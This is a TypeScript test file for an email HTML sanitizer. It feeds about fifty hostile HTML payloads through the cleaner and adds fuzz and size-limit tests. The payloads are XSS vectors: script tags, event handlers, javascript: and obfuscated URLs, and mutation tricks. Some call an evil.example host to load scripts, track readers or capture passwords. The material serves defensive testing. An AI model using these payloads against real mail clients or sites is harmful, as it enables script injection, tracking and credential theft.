import fc from 'fast-check';
import { cleanHtml } from './clean-html';

/** HTML of mails by people who want more than to be read. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/seen.png?who=ann" width=1 height=1>',
  '<img src="//evil.example/seen.png">',
  '<img srcset="https://evil.example/seen.png 2x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="javascript:alert(1)">',
  '<img src="cid:x" onload="alert(1)" style="position:fixed" id="top" class="admin" name="location">',
  '<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java&#x09;script:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="x" target="_top" ping="https://evil.example" onclick="alert(1)">x</a>',
  '<style>@import url(https://evil.example/x.css); body { display: none }</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/"><a href="/login">Sign in</a>',
  '<p style="background:url(https://evil.example/seen.png)">x</p>',
  '<table background="https://evil.example/seen.png"><tr><td background="https://evil.example/x.png">x</td></tr></table>',
  '<body onload=alert(1) background="https://evil.example/x.png">x</body>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code=x></applet>',
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">Go</button></form>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png" onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<input autofocus onfocus=alert(1)>',
  '<div id="root" class="toast">looks like ours</div>',
  '<p title=`"><img src=x onerror=alert(1)>`>x</p>',
  '<img alt="<script>alert(1)</script>" src=x>',
  '<b <script>alert(1)</script>0</b>',
  '<a href="https://ok.example" href="javascript:alert(1)">x</a>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<p>\ud800</p>',
];

const TAG = /<(\/?)([a-z][a-z0-9]*)((?:\s+[a-z]+="[^"<>]*")*)\s*\/?>/g;
const TAGS = new Set(
  'p br div span hr blockquote pre code h1 h2 h3 h4 h5 h6 b strong i em u s del ins small sub sup abbr cite q ul ol li dl dt dd table caption thead tbody tfoot tr th td a img'.split(
    ' ',
  ),
);

/** What a mail may not have when it is shown; read as a browser does, and not as the cleaner. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const rest = html.replace(TAG, (_whole, _closing, tag: string, attributes: string) => {
    if (!TAGS.has(tag)) found.push(`tag ${tag}`);
    for (const [, name = '', value = ''] of attributes.matchAll(/([a-z]+)="([^"]*)"/g)) {
      const plain = value.replace(/&amp;/g, '&');
      if (tag === 'img' && name === 'src') {
        if (!plain.startsWith('cid:')) found.push(`picture ${plain}`);
      } else if (name === 'href') {
        if (!/^(https?:\/\/|mailto:|tel:|[^:]*$)/i.test(plain)) found.push(`link ${plain}`);
      } else if (!/^(title|alt|rel|target|width|height|colspan|rowspan|start)$/.test(name))
        found.push(`attribute ${name}`);
    }
    return '';
  });
  if (/[<>]/.test(rest.replace(/&[lg]t;/g, ''))) found.push(`markup ${rest}`);
  return found;
}

describe('The HTML of a mail', () => {
  it.each(HOSTILE)('is shown without what harms: %j', (html) => {
    for (const around of [html, `<p>before</p>${html}<p>after</p>`, `<div><table><tr><td>${html}`]) {
      const clean = cleanHtml(around) ?? '';
      expect(dangers(clean)).toEqual([]);
      expect(clean).not.toContain('evil.example/seen');
      expect(cleanHtml(clean) ?? '').toBe(clean);
    }
  });

  it('is harmless however its pieces are put together', () => {
    const pieces = fc.constantFrom(
      ...HOSTILE,
      ...[
        '<',
        '>',
        '"',
        "'",
        '`',
        '/',
        '=',
        '<!--',
        '-->',
        '<svg>',
        '<math>',
        '</p>',
        '<style>',
        '&lt;',
        '&#60;',
        '<a href="',
        ' on',
        'x',
      ],
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
        expect(dangers(cleanHtml(parts.join('')) ?? '')).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('keeps what makes it readable', () => {
    expect(
      cleanHtml(
        '<p>Dear <b>shop</b>,</p><ul><li>one</li></ul><a href="https://ok.example/?a=1&b=2">here</a><img src="cid:logo" alt="Logo">',
      ),
    ).toBe(
      '<p>Dear <b>shop</b>,</p><ul><li>one</li></ul><a href="https://ok.example/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">here</a><img src="cid:logo" alt="Logo" />',
    );
  });

  it('takes no time, and none of it is shown where there is too much', () => {
    const began = performance.now();
    expect(cleanHtml('<b>'.repeat(1_000_000))).toBeNull();
    expect(cleanHtml('<div>'.repeat(150_000))).toBeNull();
    cleanHtml(`${'<div>'.repeat(400)}x${'</div>'.repeat(400)}`.repeat(200));
    cleanHtml('<p>x'.repeat(200_000));
    cleanHtml('<td>x'.repeat(150_000));
    cleanHtml(`<p ${'a="b" '.repeat(100_000)}>x</p>`);
    cleanHtml(`${'<!--'.repeat(100_000)}`);
    expect(performance.now() - began).toBeLessThan(10_000);
    expect(cleanHtml(undefined)).toBeNull();
  });
});
